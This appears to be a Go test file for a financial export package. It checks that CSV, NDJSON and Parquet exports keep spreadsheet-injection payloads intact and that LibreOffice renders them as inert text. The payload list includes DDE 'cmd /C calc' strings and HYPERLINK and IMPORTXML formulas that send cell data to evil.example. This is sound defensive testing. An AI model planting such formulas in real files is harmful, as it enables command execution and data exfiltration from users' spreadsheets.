package export_test

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"finobs/internal/export"

	"github.com/parquet-go/parquet-go"
)

// payloads are what spreadsheet programs run, in the forms that get around naive
// filters.
var payloads = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1+9)`, `=cmd|' /C calc'!A0`, `=10+20+cmd|' /C calc'!A0`, `DDE ("cmd";"/C calc";"!A0")A0`,
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "\u00a0=1+1", "\ufeff=1+1", `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1)`,
	`=1+1","=2+2`, "x\n=1+1", `;=1+1`, `"=1+1"`, `'=1+1`, `=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, `|cmd`, `-12.50`, `1e9`,
}

// Payloads are intact in the formats that are read by programs.
func TestPayloadsAreIntactInNDJSONAndParquet(t *testing.T) {
	var rows [][]export.Cell
	for _, p := range payloads {
		rows = append(rows, row("-7", p, `{}`))
	}
	lines, _ := encode(t, export.NDJSON, export.Plain, rows...)
	dec := json.NewDecoder(bytes.NewReader(lines))
	for _, p := range payloads {
		var object struct {
			Text   string      `json:"text"`
			Amount json.Number `json:"amount"`
		}
		if err := dec.Decode(&object); err != nil || object.Text != p || object.Amount != "-12.50" {
			t.Errorf("%q came back as %+v, %v", p, object, err)
		}
	}
	content, _ := encode(t, export.Parquet, export.Zstd, rows...)
	read, err := parquet.Read[struct {
		Text string `parquet:"text,optional"`
	}](bytes.NewReader(content), int64(len(content)))
	if err != nil || len(read) != len(payloads) {
		t.Fatalf("%d rows, %v", len(read), err)
	}
	for i, p := range payloads {
		if read[i].Text != p {
			t.Errorf("%q came back as %q", p, read[i].Text)
		}
	}
}

// inLibreOffice opens a CSV file and returns the sheet as flat XML, which says for
// each cell whether it is a formula, a number or a text. Formulas are evaluated, as
// a careless user would have it: the last token of the filter.
func inLibreOffice(t *testing.T, content []byte) string {
	t.Helper()
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not installed; make e2e-full installs it")
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "sheet.csv")
	if err := os.WriteFile(path, content, 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(office, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true", "--convert-to", "fods", "--outdir", dir, path)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("LibreOffice: %v\n%s", err, out)
	}
	sheet, err := os.ReadFile(filepath.Join(dir, "sheet.fods"))
	if err != nil {
		t.Fatal(err)
	}
	return string(sheet)
}

// LibreOffice shows every payload as text, and numbers as numbers: nothing is
// calculated.
func TestPayloadsAreInertInLibreOffice(t *testing.T) {
	var rows [][]export.Cell
	for _, p := range payloads {
		rows = append(rows, row("-7", p, `{}`))
	}
	content, _ := encode(t, export.CSV, export.Plain, rows...)
	sheet := inLibreOffice(t, content)
	for _, bad := range []string{"table:formula=", `office:value="2"`, `office:value="30"`, `office:value="10"`} {
		if strings.Contains(sheet, bad) {
			t.Errorf("something is a formula, or was calculated: %s", bad)
		}
	}
	for _, number := range []string{`office:value="-12.5"`, `office:value="-7"`} {
		if !strings.Contains(sheet, number) {
			t.Errorf("%s is not there: a negative number is no number", number)
		}
	}
	if bare := inLibreOffice(t, []byte("text\n=1+1\n")); !strings.Contains(bare, "table:formula=") {
		t.Error("LibreOffice took =1+1 for no formula, so this test sees nothing")
	}
}
